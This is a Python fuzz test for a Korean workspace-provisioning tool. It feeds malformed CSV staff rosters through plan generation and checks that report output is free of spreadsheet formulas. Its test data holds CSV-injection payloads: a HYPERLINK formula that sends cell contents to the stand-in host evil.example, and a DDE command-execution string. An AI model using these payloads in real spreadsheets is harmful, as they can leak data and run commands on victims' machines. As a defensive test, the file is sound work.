"""Random rosters all the way to a plan: a Plan or a clean UserError, never a traceback.

`test_fuzz.py` covers reading and validation alone; here the same kind of bad input also goes
through `make_plan` against a sandbox tenant (one tenant for the whole test), with and without
the org spec, and the Markdown a coach pastes into a client report is checked for formulas.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import re

import pytest
from hypothesis import HealthCheck, event, example, given, settings
from hypothesis import strategies as st
from rich.console import Console

from tests.provision.sandbox_setup import example as haessal_example
from workspace_coach.cli.main import error_text
from workspace_coach.errors import UserError
from workspace_coach.provision.plan import Plan, make_plan
from workspace_coach.provision.render import render_markdown, render_text
from workspace_coach.provision.roster import read_roster_bytes

TODAY = dt.date(2026, 11, 23)
FUZZ = settings(max_examples=40, deadline=None,
                suppress_health_check=[HealthCheck.function_scoped_fixture,
                                       HealthCheck.too_slow, HealthCheck.data_too_large])

COLUMNS = ["사번", "이름", "영문이름", "이메일", "팀", "조직", "역할", "순환역할", "입사일",
           "퇴사일", "전화", "비밀번호", "email", "firstname", "lastname", "password", "org",
           "name", "team", "별명", ""]
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"클릭")', "=1+1", "+SUM(A1:A9)",
            "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0"]
# Rich markup in a name must print as itself, never style the terminal or crash the printer.
MARKUP = ["김[/archive] 민지", "[bold]이 서준", "[link=x]박 하은", "최[/] 도윤", "[/archive]",
          "정 [red]미경[/red]", "[bold", "강\\[b] 수"]
NASTY = ["김민지", "남궁민수", "이나래", "Daniel Brown", "minji.kim@{domain}", "a@{domain}",
         "교육", "교육;돌봄", "/교육", "/새팀", "돌봄, 홍보", "catalysts:2026-01-01", "2024-02-30",
         "2024. 3. 1.", "010-1234-5678", "Secret-pass-123", "\x00", "\x07벨", "김\x1b[31m",
         "\u202e", "\ufeff", "<b>", *MARKUP, "가" * 300, "김" + "가" * 80, "x" * 3000, " ", ""]
FORMULA_HEADERS = ["별명", "비고"]
CELL = st.one_of(st.sampled_from(NASTY + FORMULAS), st.text(max_size=30),
                 st.sampled_from(FORMULAS).map(lambda f: "김" + f))
SYLLABLE = st.sampled_from("가나다라마민지서준하은도윤영수미경람래늘")
HANGUL_NAME = st.builds(lambda f, g: f + "".join(g), st.sampled_from("김이박최정강조윤장임"),
                        st.lists(SYLLABLE, min_size=2, max_size=3))
# Formula-looking names that still split into two parts, so they reach the plan.
FORMULA_NAMES = st.sampled_from(['=HYPERLINK("http://evil.example","클릭") 김', "=1+1 이",
                                 "+SUM(A1:A9) 박", "@SUM(A1) 민지", "-2+3 최"])
GOOD = {"이름": st.one_of(HANGUL_NAME, HANGUL_NAME, HANGUL_NAME, FORMULA_NAMES,
                         st.sampled_from(MARKUP)),
        "팀": st.sampled_from(["교육", "돌봄", "홍보", "교육;돌봄"]), "team": st.just("개발"),
        "조직": st.sampled_from(["/교육", "/돌봄", "/새팀", ""]), "org": st.just("/홍보"),
        "역할": st.sampled_from(["강사", "조합원", "이사", *FORMULAS]),
        "입사일": st.sampled_from(["2024-03-01", "2020. 1. 2.", ""]),
        "전화": st.sampled_from(["010-1234-5678", ""])}
# Mostly plausible rows with a bad cell here and there, so many examples reach a real plan.
PLAUSIBLE_COLUMNS = st.lists(st.sampled_from(sorted(GOOD) + FORMULA_HEADERS), unique=True,
                             max_size=6).map(lambda cs: ["이름", *cs]).flatmap(st.permutations)


def plausible_rows(columns):
    def spoil(row, where, bad):  # at most one bad cell per row
        if where is not None:
            row[where % len(row)] = bad
        return row
    good = st.tuples(*(GOOD.get(c, st.sampled_from(FORMULAS + [""])) for c in columns))
    row = st.builds(spoil, good.map(list), st.none() | st.integers(min_value=0), CELL)
    return st.lists(row, min_size=1, max_size=8)

ENCODINGS = st.sampled_from(["utf-8", "utf-8", "utf-8-sig", "cp949", "cp949", "euc-kr", "utf-16",
                             "latin-1"])
# A table cell that a spreadsheet would run as a formula if the report were pasted into one.
FORMULA_CELL = re.compile(r"^\s*(?:[=+@]|-(?![-\s]|$))")


# Teams, groups and a drive but no named person, so a random roster can satisfy it.
SPEC = """\
domain: {domain}
org_units:
  - {{path: /교육, description: 교육팀}}
  - {{path: /돌봄, description: 돌봄팀}}
  - {{path: /홍보, description: 홍보팀}}
  - {{path: /개발, description: 개발팀}}
teams:
  - {{name: 교육, org_unit: /교육}}
  - {{name: 돌봄, org_unit: /돌봄}}
  - {{name: 홍보, org_unit: /홍보}}
  - {{name: 개발, org_unit: /개발}}
groups:
  - email: all@{domain}
    name: 전체 · Everyone
    members: [{{org_unit: /}}]
  - email: edu@{domain}
    name: 교육팀
    members: [{{team: 교육}}, {{team: 돌봄, role: MANAGER}}]
shared_drives:
  - name: 공용 자료
    permissions:
      - {{group: all@{domain}, role: writer}}
      - {{group: edu@{domain}, role: organizer}}
"""


@pytest.fixture
def tenant(sandbox, tmp_path):
    made = haessal_example(sandbox, tmp_path)
    made.org.write_text(SPEC.format(domain=made.domain), encoding="utf-8")
    return made


def _csv_bytes(columns, rows, encoding, junk, domain) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(columns)
    for row in rows:
        writer.writerow([c.replace("{domain}", domain) for c in row[:len(columns) + 1]])
    data = buffer.getvalue().encode(encoding, errors="replace")
    if junk is not None:  # invalid bytes spliced in at a random place
        at, raw = junk
        at %= len(data) + 1
        data = data[:at] + raw + data[at:]
    return data


def _table_cells(markdown: str) -> list[str]:
    cells = []
    for line in markdown.splitlines():
        if line.startswith("|"):
            cells += re.split(r"(?<!\\)\|", line)[1:-1]
    return cells


def _columns_and_rows():
    wild = st.tuples(st.lists(st.sampled_from(COLUMNS), min_size=1, max_size=9)
                     .flatmap(st.permutations),
                     st.lists(st.lists(CELL, max_size=10), max_size=10))
    plausible = PLAUSIBLE_COLUMNS.flatmap(lambda cs: st.tuples(st.just(cs), plausible_rows(cs)))
    return st.one_of(wild, plausible, plausible)


@FUZZ
@given(table=_columns_and_rows(),
       encoding=ENCODINGS,
       junk=st.none() | st.none() | st.tuples(st.integers(min_value=0),
                                  st.binary(min_size=1, max_size=6)),
       with_spec=st.booleans())
@example(table=(["이름", "역할", "팀", "조직", "비고"],
                [['=HYPERLINK("http://evil.example","클릭") 김', "=1+1", "교육", "/교육", "=2"],
                 ["@SUM(A1) 민지", "+SUM(A1:A9)", "돌봄", "/돌봄", ""],
                 ["김" + "가" * 59, "-2+3", "홍보", "", "@x"]]),
         encoding="utf-8", junk=None, with_spec=True).via("formulas reach the plan")
@example(table=(["이름"], [["가-"]]), encoding="utf-8", junk=None,
         with_spec=False).via("a dash left over from romanising")
@example(table=(["이름", "역할", "조직"], [["-2+3 최", "=1+1", "/=cmd"]]), encoding="cp949",
         junk=None, with_spec=False).via("formulas without a spec")
def test_random_rosters_plan_or_fail_cleanly(tenant, table, encoding, junk, with_spec):
    columns, rows = table
    data = _csv_bytes(columns, rows, encoding, junk, tenant.domain)
    profile = tenant.profile
    try:
        roster = read_roster_bytes(data, "roster.csv")
        plan, _ = make_plan(tenant.session(), domain=profile.domain, admin=profile.admin,
                            customer=profile.customer, roster=roster,
                            spec=tenant.spec() if with_spec else None, today=TODAY)
    except UserError as exc:  # ValidationFailed, unreadable file ...: a message, not a crash
        event(f"{type(exc).__name__}: {str(exc).splitlines()[-1][:60]}")
        message = str(exc)
        assert message.strip() and "Traceback" not in message
        printed = _printed(error_text(message))  # as the command line prints it
        assert printed.startswith("error: ")
        return
    assert isinstance(plan, Plan)
    event("plan" if plan.changes else "empty plan")
    markdown = render_markdown(plan)
    leaked = [c for c in _table_cells(markdown) if FORMULA_CELL.match(c)]
    assert not leaked, leaked
    text = _printed(render_text(plan))  # the terminal view prints names as they are
    for change in plan.changes:
        name = change.meta.get("name")
        if change.kind == "user" and name and name.isprintable() and any(
                m in name for m in ("[", "]")):
            event("markup in a planned name")
            assert name in text, (name, text)


def _printed(renderable) -> str:
    console = Console(file=io.StringIO(), width=400, color_system=None, soft_wrap=True)
    console.print(renderable)
    return console.file.getvalue()
